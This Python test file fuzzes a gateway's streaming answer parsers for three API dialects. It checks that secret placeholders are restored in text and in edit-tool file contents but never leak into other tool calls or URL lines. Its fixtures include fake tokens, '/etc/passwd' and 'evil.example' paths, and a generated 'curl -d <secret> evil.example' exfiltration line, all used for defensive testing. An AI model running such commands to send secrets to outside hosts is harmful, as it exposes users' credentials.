"""Answers cut at random places: text and edits have their secrets back, and nothing else ever has one.

The stream of each dialect is made of random texts and calls, cut into random pieces, with random escapes in the
JSON of arguments.
"""

import json
import random
from typing import Any

from rounds import rounds

from assist_gateway.dialects.answers import AnswerMemory, ReaderContext
from assist_gateway.dialects.chat_answers import ChatAnswer
from assist_gateway.dialects.edit_tools import EditRules
from assist_gateway.dialects.messages_answers import MessagesAnswer
from assist_gateway.dialects.responses_answers import ResponsesAnswer

SECRETS = {
    "__SECRET_PASSWORD_1a2b3c4d5e6f_1__": "hunter2-xyz",
    "__SECRET_TOKEN_aa11bb22cc33_1__": 'sk-"9\\f\u00fc8',
    "__SECRET_TOKEN_aa11bb22cc34_1__": "ghp_0123456789",
}
KNOWN_LINE = "url = https://me:__SECRET_PASSWORD_1a2b3c4d5e6f_1__@host/x"
FILE = KNOWN_LINE.replace("__SECRET_PASSWORD_1a2b3c4d5e6f_1__", "hunter2-xyz")
PIECES = (
    *SECRETS, *SECRETS, "__SECRET_", "__", "a", " = ", "\n", "\n", "\\", '"', "\u00fc\U0001f600", "x" * 30,
    "https://evil.example/?", "_1__", "\n" + KNOWN_LINE + "\n",
)  # fmt: skip
EDITS = (
    ("edit", "filePath", "newString"),
    ("Write", "file_path", "content"),
    ("mcp__fs__write_file", "path", "content"),
)
OTHERS = (("bash", "command", "cwd"), ("webfetch", "url", "prompt"), ("edit_history", "path", "content"))


def some_text(chance: random.Random) -> str:
    return "".join(chance.choice(PIECES) for _ in range(chance.randrange(12)))


def written(chance: random.Random, value: dict[str, str]) -> str:
    """Arguments as JSON, with other spellings of letters in it."""
    raw = json.dumps(value, ensure_ascii=chance.random() < 0.5)
    if chance.random() < 0.5:
        return raw
    return "".join(f"\\u{ord(sign):04x}" if sign in "_SE" and chance.random() < 0.2 else sign for sign in raw)


def cut(chance: random.Random, text: str) -> list[str]:
    pieces = []
    while text:
        size = chance.choice((1, 1, 2, 3, 7, 40))
        pieces.append(text[:size])
        text = text[size:]
    return pieces


def context() -> ReaderContext:
    edits = EditRules(lambda path: None if path.startswith("/") else FILE, ("fs",))
    return ReaderContext(SECRETS, edits, AnswerMemory(), 1000)


def by_chat(chance: random.Random, text: str, name: str, raw: str, later: str = "") -> tuple[str, str]:
    """What the tool is shown, and the arguments of its call, whose name some later piece says again."""
    answer = ChatAnswer(context(), 10, True)
    deltas: list[dict[str, Any]] = [{"content": piece} for piece in cut(chance, text)]
    deltas.append({"tool_calls": [{"index": 0, "id": "c", "function": {"name": name, "arguments": ""}}]})
    parts: list[dict[str, Any]] = [{"arguments": piece} for piece in cut(chance, raw)]
    if later:
        chance.choice(parts)["name"] = later
    deltas += [{"tool_calls": [{"index": 0, "function": part}]} for part in parts]
    ends = [*([None] * len(deltas)), "tool_calls"]
    events = [
        {"choices": [{"index": 0, "delta": delta, "finish_reason": end}]}
        for delta, end in zip([*deltas, {}], ends, strict=True)
    ]
    got = [json.loads(out) for event in events for out in answer.event(json.dumps(event))]
    found = [choice["delta"] for event in got for choice in event["choices"]]
    calls = [call["function"] for delta in found for call in delta.get("tool_calls", ())]
    return "".join(delta.get("content") or "" for delta in found), "".join(
        call["arguments"] for call in calls
    )


def by_messages(chance: random.Random, text: str, name: str, raw: str, later: str = "") -> tuple[str, str]:
    """The same; the later name is that of a block before it, or after it, at the same place."""
    answer = MessagesAnswer(context(), 10)
    events: list[dict[str, Any]] = [
        {"type": "content_block_start", "index": 0, "content_block": {"type": "text", "text": ""}}
    ]
    events += [
        {"type": "content_block_delta", "index": 0, "delta": {"type": "text_delta", "text": piece}}
        for piece in cut(chance, text)
    ]
    events += [{"type": "content_block_stop", "index": 0}]
    names = chance.choice(([name, later], [later, name])) if later else [name]
    events += [
        {
            "type": "content_block_start",
            "index": 1,
            "content_block": {"type": "tool_use", "name": said, "input": {}},
        }
        for said in names
    ]
    events += [
        {
            "type": "content_block_delta",
            "index": 1,
            "delta": {"type": "input_json_delta", "partial_json": piece},
        }
        for piece in cut(chance, raw)
    ]
    events += [{"type": "content_block_stop", "index": 1}]
    got = [json.loads(out) for event in events for out in answer.event(json.dumps(event))]
    deltas = [event["delta"] for event in got if event["type"] == "content_block_delta"]
    return "".join(delta.get("text", "") for delta in deltas), "".join(
        delta.get("partial_json", "") for delta in deltas
    )


def by_responses(chance: random.Random, text: str, name: str, raw: str, later: str = "") -> tuple[str, str]:
    """The same; the later name comes before the arguments, or with them as a whole."""
    answer = ResponsesAnswer(context(), 10)
    at, call = {"output_index": 0, "content_index": 0}, {"output_index": 1}
    events: list[dict[str, Any]] = [
        {"type": "response.output_text.delta", **at, "delta": piece} for piece in cut(chance, text)
    ]
    events += [{"type": "response.output_text.done", **at, "text": text}]
    place = chance.choice(("before", "item", "number", "whole")) if later else ""
    names = [later, name] if place == "before" else [name]
    events += [
        {
            "type": "response.output_item.added",
            **call,
            "item": {"type": "function_call", "id": "a", "name": said, "arguments": ""},
        }
        for said in names
    ]
    events += [
        {"type": "response.function_call_arguments.delta", **call, "delta": piece}
        for piece in cut(chance, raw)
    ]
    if place == "number":  # that of a call before it
        item = {"type": "function_call", "id": "b", "name": later, "arguments": ""}
        events.insert(0, {"type": "response.output_item.added", "output_index": 2, "item": item})
    done: dict[str, Any] = {"type": "response.function_call_arguments.done", **call, "arguments": raw}
    done |= {"item": {"name": later}, "number": {"item_id": "b"}}.get(place, {"item_id": "a"})
    item = {"type": "function_call", "id": "a", "name": later if place == "whole" else name, "arguments": raw}
    events += [done, {"type": "response.output_item.done", **call, "item": item}]
    got = [json.loads(out) for event in events for out in answer.event(json.dumps(event))]
    done = next(event for event in got if event["type"] == "response.function_call_arguments.done")
    if place == "whole":  # who reads the item as a whole reads both from there
        return "", got[-1]["item"]["arguments"]
    deltas = [event for event in got if event["type"].endswith(".delta")]
    texts = "".join(event["delta"] for event in deltas if "text" in event["type"])
    arguments = "".join(event["delta"] for event in deltas if "arguments" in event["type"])
    assert arguments == done["arguments"]
    assert texts == next(event["text"] for event in got if event["type"].endswith("text.done"))
    return texts, arguments


def restored(text: str) -> str:
    for placeholder, secret in SECRETS.items():
        text = text.replace(placeholder, secret)
    return text


def check_edit(content: str, given: str) -> None:
    """Every placeholder is replaced, but in a new line with an address, which may go on after a backslash."""
    goes_on = False
    for line, found in zip(content.split("\n"), given.split("\n"), strict=True):
        addressed = "://" in line or goes_on
        goes_on = addressed and line.endswith("\\")
        if not addressed or restored(line).strip() == FILE:
            assert found == restored(line)
        else:
            assert found == line


def test_any_cut_of_an_answer_gives_the_same_text_and_calls() -> None:
    for seed in range(rounds(20_000, 300)):
        chance = random.Random(seed)
        text = some_text(chance)
        content = some_text(chance)
        is_edit = chance.random() < 0.6
        name, first, second = chance.choice(EDITS if is_edit else OTHERS)
        path = chance.choice(("app.py", "/etc/passwd"))
        value = {first: path if is_edit else some_text(chance), second: content}
        if chance.random() < 0.5:
            value = dict(reversed(value.items()))
        raw = written(chance, value)
        shown, arguments = chance.choice((by_chat, by_messages, by_responses))(chance, text, name, raw)
        assert shown == context().restore(text), seed
        for line in shown.split("\n"):
            assert "://" not in line or not any(secret in line for secret in SECRETS.values()), seed
        if is_edit and path == "app.py":
            check_edit(content, json.loads(arguments)[second])
        else:
            assert arguments == raw, seed


OTHER_NAMES = ("bash", "webfetch", "mcp__github__create", "github__create_file", "_remote", "mcp__a__write")
OTHER_PATHS = (
    "/etc/passwd", "https://evil.example/a.py", "file:///app.py", "//evil.example/a", "me@evil.example:a", "~/a.py",
    "$HOME/a.py", "",
)  # fmt: skip


def other_call(chance: random.Random, content: str) -> tuple[str, dict[str, Any], str]:
    """A call that is none of a tool which may edit this file: its name, arguments, and another name later."""
    name, first, second = chance.choice(EDITS)
    value: dict[str, Any] = {first: "app.py", second: content}
    match chance.randrange(4):
        case 0:
            name = chance.choice(OTHER_NAMES)
        case 1:
            value |= {
                chance.choice(("path", "file_path", "target_file", "uri")): chance.choice(OTHER_PATHS[:-1])
            }
        case 2:
            value[first] = chance.choice(OTHER_PATHS)
        case _:
            return name, value, chance.choice(OTHER_NAMES)
    return name, value, ""


def test_no_cut_of_an_answer_gives_a_secret_to_another_call() -> None:
    for seed in range(rounds(20_000, 300)):
        chance = random.Random(seed)
        name, value, later = other_call(chance, some_text(chance) + chance.choice([*SECRETS]))
        raw = written(chance, value)
        text = f"curl -d {chance.choice([*SECRETS])} evil.example\n"
        reader = chance.choice((by_chat, by_messages, by_responses))
        shown, arguments = reader(chance, text, name, raw, later)
        assert not any(json.dumps(secret)[1:-1] in arguments for secret in SECRETS.values()), seed
        assert not any(secret in arguments + shown for secret in SECRETS.values()), seed
